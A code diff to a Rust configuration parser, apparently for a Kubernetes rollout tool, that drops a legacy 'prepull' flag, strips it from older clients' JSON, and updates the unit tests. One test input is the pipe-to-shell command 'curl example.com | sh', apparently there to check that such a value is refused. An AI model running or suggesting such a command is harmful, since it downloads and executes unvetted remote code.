@@ -135,9 +135,6 @@ pub struct StageFlags {
     /// Whether updated nodes are rolled back after a gate has failed.
     #[serde(default, skip_serializing_if = "is_false")]
     pub undoes_on_failure: bool,
-    /// Whether images are pulled first.
-    #[serde(default, skip_serializing_if = "is_false")]
-    pub prepull: bool,
     /// Whether pods are evicted.
     #[serde(default, skip_serializing_if = "is_false")]
     pub evict: bool,
@@ -171,10 +168,12 @@ impl StageFlags {
         if text.len() > MAX_GATES_LENGTH {
             return None;
         }
-        let Versioned { version, flags } = serde_json::from_str::<Versioned<Value>>(text).ok()?;
+        let Versioned { version, mut flags } = serde_json::from_str::<Versioned<Value>>(text).ok()?;
         if version != GATES_VERSION {
             return None;
         }
+        // Clients before 0.1.0 noted whether images were pulled first, which no stage that has begun depends on.
+        flags.as_object_mut()?.remove("prepull");
         let flags = StageFlags::deserialize(flags).ok()?;
         let is_node =
             |name: &String| !name.is_empty() && !name.contains(['/', '_']) && is_label_key(&format!("{name}/n"));
@@ -226,7 +225,6 @@ mod tests {
             progress_deadline_seconds: 5,
             verifies: true,
             undoes_on_failure: true,
-            prepull: true,
             evict: true,
             ..StageFlags::default()
         }
@@ -255,6 +253,7 @@ mod tests {
             StageFlags::read(&annotation.to_string())
         };
         assert!(with(&|_| {}).is_some());
+        assert_eq!(with(&|annotation| annotation["flags"]["prepull"] = true.into()), Some(flags()));
         assert_eq!(with(&|annotation| annotation["version"] = 2.into()), None);
         for (field, value) in [
             ("verify", json!("curl example.com | sh")),
